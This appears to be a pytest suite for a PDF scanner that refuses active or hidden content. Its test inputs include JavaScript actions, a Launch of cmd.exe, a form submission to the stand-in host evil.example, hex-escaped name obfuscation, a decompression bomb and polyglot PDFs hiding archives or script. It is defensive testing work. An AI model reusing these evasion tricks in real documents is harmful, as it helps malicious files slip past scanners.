"""PDF: scripts and embedded files are met wherever they hide; what stays in it is said."""

import pytest

from tests.vault.inspection.build import cleaned, jpeg, look, notes, packed_objects, pdf, refused
from tests.vault.inspection.build_zip import packed_files

SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def test_an_ordinary_pdf_passes_and_comes_back_unchanged():
    verdict = look(pdf(), "report.pdf")
    assert (verdict.kind, verdict.refused, verdict.has_metadata) == ("pdf", None, False)
    assert cleaned(pdf(), "report.pdf") == pdf()


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (SCRIPT, "pdf-active"),
        (b"<< /S /J#61vaScript >>", "pdf-active"),
        (b"<< /S /#4aavaScript >>", "pdf-active"),
        (b"<< /S /Launch /F (cmd.exe) >>", "pdf-active"),
        (b"<< /S/SubmitForm/F(http://evil.example) >>", "pdf-active"),
        (b"<< /Subtype /RichMedia >>", "pdf-active"),
        (b"<< /XFA 9 0 R >>", "pdf-active"),
        (b"% stream\n<< /S /JavaScript >>\n% endstream", "pdf-active"),
        (b"<< /Type /EmbeddedFile >>", "pdf-embedded"),
        (b"<< /Names << /EmbeddedFiles 9 0 R >> >>", "pdf-embedded"),
        (packed_objects(b"3 0 " + SCRIPT), "pdf-active"),
        (packed_objects(b"3 0 << /S /Java#53cript >>"), "pdf-active"),
        (packed_objects(b" " * 200_000 + SCRIPT), "pdf-active"),
        (packed_objects(b"3 0 << >>", b"[/ASCIIHexDecode /FlateDecode]"), "pdf-unreadable"),
        (b"<< /Type /ObjStm >>\nstream\n\x00\x01\x02\nendstream", "pdf-unreadable"),
        (b"<< /Type /Ob#6aStm >>\nstream\nx\nendstream", "pdf-unreadable"),
        (packed_objects(b"3 0 << /A (" + b"0" * (80 << 20) + b") >>"), "zip-bomb"),
    ],
)
def test_what_can_run_or_hide_in_a_pdf_is_refused(content, reason):
    assert refused(pdf(content), "report.pdf") == reason


@pytest.mark.parametrize(
    "content",
    [
        b"<< /S /URI /URI (https://www.ocosec.org/) >>",
        b"<< /S /GoTo /D [2 0 R /Fit] >>",
        b"<< /Title (JavaScript and Launch explained) >>",
        b"<< /JavaScripture true >>",
        packed_objects(b"3 0 << /Type /Font >>"),
        b"<< /Type /ObjStm /N 1 /First 4 >>\nstream\n3 0 << /Type /Font >>\nendstream",
        b"<< /Filter /LZWDecode >>\nstream\nabc\nendstream",
        b"<< /Name /A#20B /Other /#41bc >>",
        b"<< >>\nstream\n\x00/x#4a#53\x00 #41#42\nendstream",
    ],
)
def test_their_harmless_twins_pass(content):
    assert refused(pdf(content), "report.pdf") == ""


def test_a_script_across_the_border_of_two_pieces_is_met():
    for size in range(65_536 - 130, 65_536 - 60, 3):
        assert refused(pdf(b"(" + b"x" * size + b")", SCRIPT), "report.pdf") == "pdf-active"


def test_a_locked_pdf_is_refused():
    assert refused(pdf(trailer=b"/Encrypt 9 0 R"), "report.pdf") == "locked"
    assert refused(pdf(b"<< /EncryptMetadata true >>"), "report.pdf") == ""


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (pdf()[:-10], "truncated"),
        (pdf()[:60], "truncated"),
        (pdf(end=b"MZ and more"), "extra-data"),
        (pdf(end=packed_files({"a.exe": b"x"})), "two-in-one"),
        (b"%PDF-1.7\n<script>alert(1)</script>" + pdf(), "two-in-one"),
        (b"%PDF-9.9" + pdf()[8:], "damaged"),
    ],
)
def test_odd_frames_are_refused(content, reason):
    assert refused(content, "report.pdf") == reason


def test_an_archive_hidden_inside_a_pdf_is_refused():
    hidden = b"<< >>\nstream\n" + packed_files({"a.exe": b"x"}) + b"\nendstream"
    assert refused(pdf(hidden), "report.pdf") == "two-in-one"


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"<< /Author (Mele) /Producer (x) >>", {"pdf-keeps-author"}),
        (b"<< /Author <FEFF004D> >>", {"pdf-keeps-author"}),
        (packed_objects(b"3 0 << /Author (Mele) >>"), {"pdf-keeps-author"}),
        (b"<< >> stream\n<dc:creator>Mele</dc:creator>\nendstream", {"pdf-keeps-author"}),
        (b"<< /Author () /Producer (x) >>", {"pdf-keeps-properties"}),
        (b"<< >> stream\n" + jpeg(b"\xff\xe1\0\x12Exif\0\0MM\0*\0\0\0\x08\0\0") + b"\nendstream",
         {"pdf-keeps-picture-data"}),
        (b"<< /Type /Font >>", set()),
    ],
)  # fmt: skip
def test_the_author_is_told_what_a_pdf_keeps_and_nothing_is_claimed(content, expected):
    verdict = look(pdf(content), "report.pdf")
    assert notes(pdf(content), "report.pdf") == expected
    assert verdict.has_metadata == bool(expected)
    assert not verdict.needs_cleaning
    assert cleaned(pdf(content), "report.pdf") == pdf(content)
